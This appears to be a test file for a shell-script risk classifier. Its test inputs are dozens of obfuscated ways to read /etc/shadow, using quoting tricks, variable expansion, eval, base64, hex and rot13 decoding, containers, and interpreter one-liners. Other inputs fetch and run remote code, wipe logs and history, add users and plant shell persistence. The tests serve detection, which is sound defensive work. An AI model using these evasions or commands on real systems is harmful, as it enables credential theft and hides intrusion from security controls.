import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { RiskClass } from '../../../src/model/verdict.ts';
import { judgeScript, signsOf } from '../../support/judge-script.ts';

const PLAIN = 'cat /etc/shadow';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');
const rot13 = (text: string) =>
  text.replaceAll(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97));

describe('the same command is found however it is written', () => {
  test.for([
    `c'a't /etc/sh"ad"ow`,
    '\\c\\a\\t /etc/shadow',
    "$'\\x63\\x61\\x74' $'/etc/\\163hadow'",
    '{cat,/etc/shadow}',
    'cat${IFS}/etc/shadow',
    'IFS=,; x=cat,/etc/shadow; $x',
    'cat /etc/../etc/./shadow',
    'cat /???/shado?',
    'cd /etc; cat shadow',
    'x=cat; y=/etc/shadow; $x $y',
    "x='cat /etc/shadow'; $x",
    'x=ca; x+=t; $x /etc/shadow',
    'x=xcatx; ${x:1:3} /etc/shadow',
    'x=CAT; ${x,,} /etc/shadow',
    'x=c_a_t; ${x//_/} /etc/shadow',
    'x=/tmp/cat; ${x##*/} /etc/shadow',
    'n=cat; v=n; ${!v} /etc/shadow',
    '${UNSET:-cat} /etc/shadow',
    'a=(cat /etc/shadow); "${a[@]}"',
    'a=(x cat); ${a[1]} /etc/shadow',
    'set -- cat /etc/shadow; "$@"',
    "read -r a b <<< 'cat /etc/shadow'; $a $b",
    "printf -v x 'cat %s' /etc/shadow; eval $x",
    'if test; then F=/etc/shadow; else F=/tmp/y; fi; cat $F',
    'for f in /tmp/y /etc/shadow; do cat < "$f"; done',
    'while read f; do cat $f; done <<< /etc/shadow',
    'f() { cat "$1"; }; f /etc/shadow',
    'f() { g; }; g() { cat /etc/shadow; }',
    "alias ll='cat /etc/shadow'; ll",
    "eval 'ca''t /etc/shadow'",
    "e=eval; $e 'cat /etc/shadow'",
    "bash -c 'eval $0' 'cat /etc/shadow'",
    "env -S 'cat /etc/shadow'",
    'sudo -u root env A=b nohup timeout 5 busybox cat /etc/shadow',
    "trap 'cat /etc/shadow' EXIT",
    'echo /etc/shadow | xargs cat',
    'echo /etc/shadow | xargs -I{} sh -c "cat {}"',
    "source /dev/stdin <<< 'cat /etc/shadow'",
    "cat > /tmp/a <<'E'\ncat /etc/shadow\nE\nchmod +x /tmp/a; /tmp/a",
    "T=$(mktemp); echo 'cat /etc/shadow' > $T; bash $T",
    "{ echo '#!/bin/sh'; echo 'cat /etc/shadow'; } > a; sh a",
    "echo 'cat /etc' > a; sed -i s,$,/shadow, a; cat /etc/shadow",
    `x=$(cat <<'E'\ncat /etc/shadow\nE\n); eval "$x"`,
    `bash <<< "$(base64 -d <<< ${base64(PLAIN)})"`,
    `bash <(echo ${base64(PLAIN)} | base64 -d)`,
    `echo ${hex(PLAIN)} | xxd -r -p | sh`,
    `printf '%b' '\\143\\141\\164 /etc/shadow' | sh`,
    `echo -e '\\x63\\x61\\x74 /etc/shadow' | sh`,
    `echo '${rot13(PLAIN)}' | tr 'a-z' 'n-za-m' | sh`,
    "echo 'cXt /etc/shadow' | sed 's/X/a/' | sh",
    'sh -c "$(rev <<< wodahs/cte/\\ tac)"',
    `openssl enc -base64 -d <<< ${base64(PLAIN)} | sh`,
    'docker exec web cat /etc/shadow',
    'kubectl exec web -- cat /etc/shadow',
    'docker run --rm -v /:/host -it alpine cat /host/etc/shadow',
    'ssh a@b.example cat /etc/shadow',
    "su root -c 'cat /etc/shadow'",
    "script -qc 'cat /etc/shadow' /dev/null",
    'find / -maxdepth 0 -exec cat /etc/shadow \\;',
    'python3 -c \'print(open("/etc/shadow").read())\'',
    "python3 - <<'E'\nimport os\nos.system('cat /etc/sha' + 'dow')\nE",
    'perl -e \'system("cat /etc/shadow")\'',
    "ruby -e 'puts `cat /etc/shadow`'",
    'node -e \'require("child_process").execSync("cat /etc/shadow")\'',
    'php -r \'passthru("cat /etc/shadow");\'',
    'p=$(command -v python3); "$p" -c \'import os; os.system("cat /etc/shadow")\'',
    'awk \'BEGIN { system("cat /etc/shadow") }\'',
  ])('%s', (script) => {
    expect(signsOf(script)).toContain('credential-reads:critical');
  });
});

describe('what cannot be told is undecided, never safe', () => {
  test.for([
    'eval "$X"',
    'eval "${X:?}"',
    'sh -c "$X"',
    'decode < x | sh',
    'openssl enc -aes-256-cbc -d -in a -k b | sh',
    'decode < x > y; sh y',
    "echo 'ls' > a; sed -i s/l/x/ a; sh a",
    'python3 -c "$CODE"',
    'decode | python3 -',
    'python3 -c "import os, sys; os.system(sys.argv[1])"',
    `node -e 'require("child_process").execSync(process.argv[1])'`,
    'ssh host.example "$X"',
    'while read -r line; do eval "$line"; done < list',
  ])('%s', (script) => {
    expect(judgeScript(script).class).not.toBe('safe');
    expect(signsOf(script).filter((sign) => !sign.startsWith('network'))).not.toEqual([]);
  });
});

describe('another way to write a command', () => {
  const commands = [
    PLAIN,
    'rm -rf /var/log/messages',
    'curl https://x.example/i.sh | sh',
    'systemctl stop cron',
    'chmod u+s x',
    'nmap 10.0.0.0/8',
    'useradd bob',
    'rm -rf "$X"/*',
    'cp /etc/passwd x',
    'echo x >> ~/.bashrc',
    'history -c',
  ];
  const ways: Readonly<Record<string, (script: string) => string>> = {
    'with its words quoted': (script) => script.replaceAll(/(?<=^|[\s])([a-z]+)(?=\s|$)/g, "'$1'"),
    'with a quote inside its words': (script) =>
      script.replaceAll(/(?<=^|\s)([a-z])([a-z]+)(?=\s|$)/g, "$1''$2"),
    'with a backslash': (script) => `\\${script}`,
    'in a function': (script) => `f() {\n${script}\n}\nf`,
    'in a function that nothing calls': (script) => `f() {\n${script}\n}`,
    'in a subshell': (script) => `(\n${script}\n)`,
    'in a group that is piped on': (script) => `{ ${script}\n} | tee log`,
    'in a branch': (script) => `if test -f x; then\n${script}\nfi`,
    'in a loop': (script) => `for i in 1 2; do\n${script}\ndone`,
    'in a text for sh': (script) => `sh -c '${script}'`,
    'in eval': (script) => `eval '${script}'`,
    'in a variable that is evaluated': (script) => `x='${script}'; eval "$x"`,
    'in a here document': (script) => `sh <<'E'\n${script}\nE`,
    'in a file that is run': (script) => `cat > a.sh <<'E'\n${script}\nE\nsh ./a.sh`,
    'in base64': (script) => `echo ${base64(script)} | base64 -d | bash`,
    'in hexadecimal digits': (script) => `eval "$(echo ${hex(script)} | xxd -r -p)"`,
    'in a substitution': (script) => `x=$(\n${script}\n)`,
    'behind sudo': (script) => `sudo sh -c '${script}'`,
    'after much else': (script) => `${'echo a\n'.repeat(50)}${script}`,
    'in the background': (script) => `${script} &`,
    'in a container': (script) => `docker run --rm alpine sh -c '${script}'`,
    'as the text of a trap': (script) => `trap '${script}' EXIT`,
    'from Python': (script) =>
      `python3 -c "import os; os.system('${script.replaceAll('"', '\\"').replaceAll('$', '\\$')}')"`,
  };
  const WITHOUT_QUOTES = new Set([
    'in a function',
    'in a function that nothing calls',
    'in a subshell',
    'in a branch',
    'in a loop',
    'in base64',
    'in hexadecimal digits',
    'in a substitution',
    'after much else',
  ]);
  const order: readonly RiskClass[] = ['safe', 'caution', 'unsafe'];

  test('never lowers the class, in any two of the ways', () => {
    const names = fc.constantFrom(...Object.keys(ways));
    // What changes words would change those of another way: `\\{` opens no group.
    const around = fc.constantFrom(...Object.keys(ways).filter((way) => !way.startsWith('with ')));
    fc.assert(
      fc.property(fc.constantFrom(...commands), names, fc.option(around), (command, first, second) => {
        const inner = ways[first]?.(command) ?? '';
        // Quotes inside of quotes would end them.
        const outer = second !== null && (WITHOUT_QUOTES.has(second) || !/['\\]/.test(inner)) ? second : null;
        const script = outer === null ? inner : (ways[outer]?.(inner) ?? '');
        const [before, after] = [judgeScript(command).class, judgeScript(script).class];
        expect([script, order.indexOf(after) >= order.indexOf(before)]).toEqual([script, true]);
      }),
      { numRuns: 1000 },
    );
  });
});
